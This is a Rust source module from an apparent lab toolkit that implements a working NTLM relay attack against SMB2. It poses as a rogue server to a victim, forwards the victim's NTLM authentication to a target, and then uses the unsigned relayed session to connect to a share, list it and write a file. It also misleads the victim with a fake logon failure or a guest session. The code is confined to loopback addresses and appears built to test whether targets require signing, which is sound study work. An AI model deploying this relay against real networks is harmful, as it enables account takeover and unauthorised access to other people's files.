//! `smb-lab relay`: an NTLM relay attacker.
//!
//! It plays the SMB2 server to a victim, and for every victim that authenticates it opens
//! its own connection to the target, where it plays the client: the victim's NTLM
//! NEGOTIATE goes to the target, the target's CHALLENGE goes back to the victim, the
//! victim's AUTHENTICATE goes to the target. The relay never learns the password or the
//! session key, so everything it sends after authentication is unsigned. A target that
//! requires signing accepts the authentication and then refuses the first unsigned request
//! (MS-SMB2 3.3.5.2.4); one that does not hands the attacker the victim's session.
//!
//! The target side is `smb_core`'s `ClientConnection` (the one client of the workspace),
//! with the victim's tokens plugged into its `Authenticator` hook ([`target`]); the victim
//! side is a small rogue server written with the message codecs ([`victim`]).
//!
//! Files: `attempt.rs` (the record of one attempt), `peer.rs` (framed connections with
//! timeouts), `target.rs`, `victim.rs`, `ops.rs` (what the attacker does once in).

mod attempt;
mod ops;
mod peer;
mod target;
mod victim;

pub use attempt::{RelayAttempt, Step, StopPoint};

use std::net::{IpAddr, SocketAddr};
use std::time::{SystemTime, UNIX_EPOCH};

use anyhow::{anyhow, bail, Context};
use serde::Serialize;
use smb_core::auth::ntlm;
use smb_core::conn::client::ResponseBody;
use smb_core::header::{flags, Command, Dialect, Header, NtStatus};
use smb_core::messages::build;
use smb_core::messages::negotiate::NegotiateRequest;
use smb_core::messages::session_setup::{session_flags, SessionSetupResponse};
use smb_core::messages::smb1_negotiate::{is_smb1, Smb1Negotiate};
use smb_core::policy::SIGNING_REQUIRED;
use tokio::net::{TcpListener, TcpStream};

use crate::gss;
use crate::loopback;
use peer::Peer;
use target::{FirstLeg, TargetConn};

/// What the attacker does with a relayed session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum RelayAction {
    /// List the share root.
    Ls,
    /// Create a marker file at this path and write to it.
    Write(String),
    /// List, then write the marker.
    LsAndWrite(String),
}

impl RelayAction {
    /// The default marker file name.
    pub const DEFAULT_MARKER: &'static str = "RELAYED-BY-SMB-LAB.txt";

    /// Parses `ls`, `write:PATH` or `ls+write:PATH`.
    pub fn parse(s: &str) -> Option<Self> {
        if s == "ls" {
            return Some(RelayAction::Ls);
        }
        if let Some(p) = s.strip_prefix("write:") {
            return (!p.is_empty()).then(|| RelayAction::Write(p.to_string()));
        }
        if let Some(p) = s.strip_prefix("ls+write:") {
            return (!p.is_empty()).then(|| RelayAction::LsAndWrite(p.to_string()));
        }
        None
    }

    fn lists(&self) -> bool {
        matches!(self, RelayAction::Ls | RelayAction::LsAndWrite(_))
    }

    fn marker(&self) -> Option<&str> {
        match self {
            RelayAction::Ls => None,
            RelayAction::Write(p) | RelayAction::LsAndWrite(p) => Some(p),
        }
    }
}

impl Default for RelayAction {
    fn default() -> Self {
        RelayAction::LsAndWrite(Self::DEFAULT_MARKER.to_string())
    }
}

/// Where and how to relay.
#[derive(Debug, Clone)]
pub struct RelayOptions {
    pub target: SocketAddr,
    /// Share to connect to on the target.
    pub share: String,
    pub action: RelayAction,
    /// Source address of the relay's connection to the target (loopback), if not the default.
    pub source: Option<IpAddr>,
    /// Dialects the relay offers the target.
    pub dialects: Vec<Dialect>,
    /// What the victim is told once its credentials have been relayed.
    pub victim_reply: VictimReply,
}

/// What the relay tells the victim after relaying its AUTHENTICATE.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum VictimReply {
    /// STATUS_LOGON_FAILURE: the victim sees a failed logon.
    #[default]
    LogonFailure,
    /// SUCCESS with SMB2_SESSION_FLAG_IS_GUEST: a rogue server offering a guest session
    /// (which has no key, so cannot be signed).
    Guest,
}

impl RelayOptions {
    /// What a relay tool offers by default: 2.0.2 to 3.0.2. A 3.1.1 target requires a
    /// signed TREE_CONNECT from every authenticated user (MS-SMB2 3.3.5.7), which the relay
    /// cannot produce, so offering 3.1.1 would only get the relayed session dropped.
    pub const DEFAULT_DIALECTS: [Dialect; 4] = [
        Dialect::SMB202,
        Dialect::SMB21,
        Dialect::SMB30,
        Dialect::SMB302,
    ];

    pub fn new(target: SocketAddr, share: &str) -> Self {
        RelayOptions {
            target,
            share: share.to_string(),
            action: RelayAction::default(),
            source: None,
            dialects: Self::DEFAULT_DIALECTS.to_vec(),
            victim_reply: VictimReply::LogonFailure,
        }
    }
}

/// A listening relay.
#[derive(Debug)]
pub struct Relay {
    listener: TcpListener,
    options: RelayOptions,
}

impl Relay {
    /// Listens on `listen` for victims (loopback only); the target must be loopback too.
    pub async fn bind(listen: SocketAddr, options: RelayOptions) -> anyhow::Result<Self> {
        let listen = loopback::check_listen("listen", listen)?;
        loopback::check_connect("target", options.target)?;
        if let Some(src) = options.source {
            loopback::check_connect("source", SocketAddr::new(src, 0))?;
        }
        let listener = TcpListener::bind(listen)
            .await
            .with_context(|| format!("binding {listen}"))?;
        Ok(Relay { listener, options })
    }

    pub fn local_addr(&self) -> std::io::Result<SocketAddr> {
        self.listener.local_addr()
    }

    /// Waits for one victim and relays it.
    pub async fn accept_one(&self) -> RelayAttempt {
        match self.listener.accept().await {
            Ok((victim, peer)) => relay_victim(victim, peer, &self.options).await,
            Err(e) => RelayAttempt {
                target: self.options.target.to_string(),
                error: Some(format!("accepting a victim: {e}")),
                ..RelayAttempt::default()
            },
        }
    }

    /// Relays every victim, handing each attempt to `on_attempt`.
    pub async fn serve<F>(self, on_attempt: F) -> anyhow::Result<()>
    where
        F: Fn(RelayAttempt) + Send + Sync + 'static,
    {
        let on_attempt = std::sync::Arc::new(on_attempt);
        loop {
            let (victim, peer) = self.listener.accept().await.context("accepting a victim")?;
            let (opts, cb) = (self.options.clone(), on_attempt.clone());
            tokio::spawn(async move { cb(relay_victim(victim, peer, &opts).await) });
        }
    }
}

/// Runs one relay attempt for a connected victim.
pub async fn relay_victim(
    victim: TcpStream,
    peer: SocketAddr,
    opts: &RelayOptions,
) -> RelayAttempt {
    let mut attempt = RelayAttempt {
        victim: Some(peer.to_string()),
        target: opts.target.to_string(),
        marker_path: opts.action.marker().map(str::to_string),
        ..RelayAttempt::default()
    };
    if let Err(e) = run(victim, opts, &mut attempt).await {
        attempt.error = Some(format!("{e:#}"));
    }
    attempt
}

async fn run(
    victim: TcpStream,
    opts: &RelayOptions,
    attempt: &mut RelayAttempt,
) -> anyhow::Result<()> {
    let _ = victim.set_nodelay(true);
    let mut victim = Peer::new(victim);
    let mut target = TargetConn::connect(opts).await?;

    // 1. The victim's NEGOTIATE (possibly preceded by the SMB1 multi-protocol one).
    let mut first = victim.recv().await.context("victim NEGOTIATE")?;
    if is_smb1(&first) {
        let smb1 = Smb1Negotiate::read(&first).context("victim SMB1 NEGOTIATE")?;
        let header = Header {
            command: Command::NEGOTIATE,
            flags: flags::SERVER_TO_REDIR,
            credits: 1,
            ..Header::default()
        };
        let wildcard = smb1.dialects.iter().any(|d| d == "SMB 2.???");
        let dialect = if wildcard {
            Dialect::WILDCARD
        } else {
            Dialect::SMB202
        };
        victim
            .send(&build(&header, &victim::negotiate_response(dialect, &[])))
            .await?;
        first = victim.recv().await.context("victim NEGOTIATE after SMB1")?;
    }
    let neg_header = Header::parse(&first).context("victim NEGOTIATE header")?;
    if neg_header.command != Command::NEGOTIATE {
        bail!(
            "victim opened with {} instead of NEGOTIATE",
            neg_header.command
        );
    }
    let neg = NegotiateRequest::read(&first).context("victim NEGOTIATE")?;
    attempt.victim_security_mode = Some(neg.security_mode);

    // 2. Our own NEGOTIATE with the target.
    let target_neg = target.negotiate().await?;
    attempt.target_dialect = Some(target_neg.dialect.dotted());
    attempt.target_security_mode = Some(target_neg.server_security_mode);
    attempt.target_requires_signing = Some(target_neg.server_security_mode & SIGNING_REQUIRED != 0);

    // Answer the victim with the target's dialect when it offered it, else its best one.
    let victim_dialect = if neg.dialects.contains(&target_neg.dialect) {
        target_neg.dialect
    } else {
        neg.dialects
            .iter()
            .copied()
            .filter(|d| Dialect::ALL.contains(d))
            .max()
            .ok_or_else(|| {
                anyhow!(
                    "victim offered no dialect the relay speaks: {:?}",
                    neg.dialects
                )
            })?
    };
    attempt.victim_dialect = Some(victim_dialect.dotted());
    let mut h = neg_header.response(NtStatus::SUCCESS);
    h.credits = 32;
    victim
        .send(&build(
            &h,
            &victim::negotiate_response(victim_dialect, &neg.contexts),
        ))
        .await?;

    // 3. SESSION_SETUP round 1: NTLM NEGOTIATE -> target -> CHALLENGE -> victim.
    let victim_session_id = random_u64() | 1;
    let (h1, ss1) = victim::recv_session_setup(&mut victim).await?;
    let first_token = gss::unwrap_initiator(&ss1.security_buffer, ntlm::NEGOTIATE_TYPE, None)
        .context("victim's first token")?;
    let leg = target
        .begin_session_setup(gss::wrap_first_for_target(
            &first_token.ntlm,
            &first_token.wrapping,
        ))
        .await?;
    let (challenge_token, held) = match leg {
        FirstLeg::Challenge { token, held } => (token, held),
        FirstLeg::Done(reply) => {
            attempt.auth_status = Some(reply.status.to_string());
            victim::send_error(&mut victim, &h1, reply.status, victim_session_id).await?;
            attempt.victim_told = Some(reply.status.to_string());
            return Ok(());
        }
    };
    let challenge = gss::unwrap_acceptor(&challenge_token).context("target's CHALLENGE")?;
    let mut h = h1.response(NtStatus::MORE_PROCESSING_REQUIRED);
    h.session_id = victim_session_id;
    let resp = SessionSetupResponse {
        session_flags: 0,
        security_buffer: gss::wrap_challenge_for_victim(&challenge, &first_token.wrapping),
    };
    victim.send(&build(&h, &resp)).await?;

    // 4. SESSION_SETUP round 2: the victim's AUTHENTICATE -> target.
    let (h2, ss2) = victim::recv_session_setup(&mut victim).await?;
    let auth = gss::unwrap_initiator(
        &ss2.security_buffer,
        ntlm::AUTHENTICATE_TYPE,
        Some(&first_token.wrapping),
    )
    .context("victim's AUTHENTICATE")?;
    attempt.relayed_user = gss::authenticate_user(&auth.ntlm);
    // The target's final token (accept-completed, its mechListMIC) is of no use to the relay.
    let reply = target
        .finish_session_setup(held, gss::wrap_last_for_target(&auth.ntlm, &auth.wrapping))
        .await?;
    let status = reply.status;
    attempt.auth_status = Some(status.to_string());
    attempt.auth_accepted = status == NtStatus::SUCCESS;
    attempt.guest = reply.guest;
    attempt.auth_response_signed = reply.signed;

    // What the victim is told: a failed logon, or (a rogue server) a guest session.
    match opts.victim_reply {
        VictimReply::Guest => {
            // A rogue server: "you are logged on as guest", a session with no key.
            let mut h = h2.response(NtStatus::SUCCESS);
            h.session_id = victim_session_id;
            let resp = SessionSetupResponse {
                session_flags: session_flags::IS_GUEST,
                security_buffer: gss::wrap_accept_completed(&first_token.wrapping),
            };
            victim.send(&build(&h, &resp)).await?;
            attempt.victim_told = Some("SUCCESS (guest session)".into());
            // See what the victim does with it: a client that requires signing must refuse.
            attempt.victim_after_guest = Some(match victim.recv().await {
                Ok(m) => Header::parse(&m).map_or_else(
                    |_| "sent a malformed message".to_string(),
                    |h| format!("sent {} (it accepted the guest session)", h.command),
                ),
                Err(e) => format!("sent nothing more ({e:#})"),
            });
        }
        VictimReply::LogonFailure => {
            // The victim only ever sees a failed logon.
            let told = if attempt.auth_accepted {
                NtStatus::LOGON_FAILURE
            } else {
                status
            };
            victim::send_error(&mut victim, &h2, told, victim_session_id).await?;
            attempt.victim_told = Some(told.to_string());
        }
    }
    drop(victim);
    if !attempt.auth_accepted {
        return Ok(());
    }

    // 5. Use the relayed session, unsigned: the relay has no session key.
    attack(&mut target, opts, attempt).await;
    target.logoff().await;
    Ok(())
}

/// TREE_CONNECT, list, write: each as one step of the report, stopping at the first refusal.
async fn attack(target: &mut TargetConn, opts: &RelayOptions, attempt: &mut RelayAttempt) {
    let unc = format!("\\\\{}\\{}", opts.target.ip(), opts.share);
    let tree = target
        .step(attempt, "TREE_CONNECT", &unc, |c| c.tree_connect(&unc))
        .await;
    attempt.first_post_auth_accepted = Some(tree.is_some());
    let Some(ResponseBody::TreeConnect { tree_id, .. }) = tree else {
        return;
    };
    target.tree_id = tree_id;

    if opts.action.lists() {
        // A refused listing does not stop the attacker from trying the write.
        attempt.listing = ops::list_root(target, attempt).await;
    }
    if let Some(path) = opts.action.marker() {
        let text =
            format!(
            "Written by smb-lab relay through a relayed NTLM session of {} at {} (unix time).\n",
            attempt.relayed_user.as_deref().unwrap_or("an unknown user"),
            SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0)
        );
        attempt.marker_written = ops::write_file(target, attempt, path, text.as_bytes()).await;
    }
}

pub(crate) fn random_bytes<const N: usize>() -> [u8; N] {
    let mut b = [0u8; N];
    // A failing OS RNG leaves zeros: these are GUIDs and salts of a lab tool, not keys.
    let _ = getrandom::getrandom(&mut b);
    b
}

fn random_u64() -> u64 {
    u64::from_le_bytes(random_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::AsyncWriteExt;

    /// A "target" that answers every frame with junk of the same framing.
    async fn junk_target() -> SocketAddr {
        let l = TcpListener::bind("127.0.0.4:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((s, _)) = l.accept().await {
                let mut p = Peer::new(s);
                while p.recv().await.is_ok() {
                    let _ = p.send(&[0xFE, b'S', b'M', b'B', 1, 2, 3]).await;
                }
            }
        });
        addr
    }

    #[tokio::test]
    async fn garbage_from_victim_or_target_ends_the_attempt_without_panic() {
        let target = junk_target().await;
        let relay = Relay::bind(
            "127.0.0.3:0".parse().unwrap(),
            RelayOptions::new(target, "data"),
        )
        .await
        .unwrap();
        let addr = relay.local_addr().unwrap();
        let victims: [&[u8]; 4] = [
            b"\x00\x00\x00\x04\xFESMB",     // a truncated header
            b"\x00\x00\x00\x08\xFFSMBrrrr", // SMB1, not a NEGOTIATE
            b"\x85\x00\x00\x00",            // NetBIOS keep-alive: not Direct TCP
            b"\x00\xFF\xFF\xFF",            // 16 MiB announced, never sent
        ];
        for bytes in victims {
            let mut v = TcpStream::connect(addr).await.unwrap();
            v.write_all(bytes).await.unwrap();
            v.shutdown().await.unwrap();
            let attempt = relay.accept_one().await;
            assert!(attempt.error.is_some(), "{bytes:?}: {attempt:?}");
            assert!(!attempt.auth_accepted);
        }
        // A well-formed victim NEGOTIATE, but the target talks junk.
        let mut neg = Vec::new();
        let req = NegotiateRequest {
            dialects: vec![Dialect::SMB21],
            ..NegotiateRequest::default()
        };
        let msg = build(&Header::request(Command::NEGOTIATE, 0, 0, 0), &req);
        neg.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        neg.extend_from_slice(&msg);
        let mut v = TcpStream::connect(addr).await.unwrap();
        v.write_all(&neg).await.unwrap();
        let attempt = relay.accept_one().await;
        assert!(
            attempt
                .error
                .as_deref()
                .is_some_and(|e| e.contains("NEGOTIATE")),
            "{attempt:?}"
        );
    }

    #[tokio::test]
    async fn a_target_that_answers_another_request_ends_the_call() {
        // Every request is answered only with responses to some other MessageId: the client
        // state machine fails the connection at the first one, and the relay stops there.
        let l = TcpListener::bind("127.0.0.4:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move {
            let (s, _) = l.accept().await.unwrap();
            let mut p = Peer::new(s);
            let stray = build(
                &Header::request(Command::ECHO, 999, 0, 0).response(NtStatus::SUCCESS),
                &smb_core::messages::echo::EchoResponse,
            );
            while p.recv().await.is_ok() {
                while p.send(&stray).await.is_ok() {}
            }
        });
        let mut t = TargetConn::connect(&RelayOptions::new(addr, "d"))
            .await
            .unwrap();
        let e = t.negotiate().await.unwrap_err();
        let e = format!("{e:#}");
        assert!(e.contains("NEGOTIATE") && e.contains("999"), "{e}");
    }

    #[tokio::test]
    async fn refuses_non_loopback_target_and_source() {
        let t: SocketAddr = "192.0.2.1:445".parse().unwrap();
        assert!(
            Relay::bind("127.0.0.3:0".parse().unwrap(), RelayOptions::new(t, "d"))
                .await
                .is_err()
        );
        let mut o = RelayOptions::new("127.0.0.4:1".parse().unwrap(), "d");
        o.source = Some("10.0.0.1".parse().unwrap());
        assert!(Relay::bind("127.0.0.3:0".parse().unwrap(), o)
            .await
            .is_err());
    }

    #[test]
    fn actions_parse() {
        assert_eq!(RelayAction::parse("ls"), Some(RelayAction::Ls));
        assert_eq!(
            RelayAction::parse("write:a/b.txt"),
            Some(RelayAction::Write("a/b.txt".into()))
        );
        assert_eq!(RelayAction::parse("write:"), None);
        assert_eq!(RelayAction::parse("rm"), None);
        assert!(RelayAction::default().lists());
    }
}
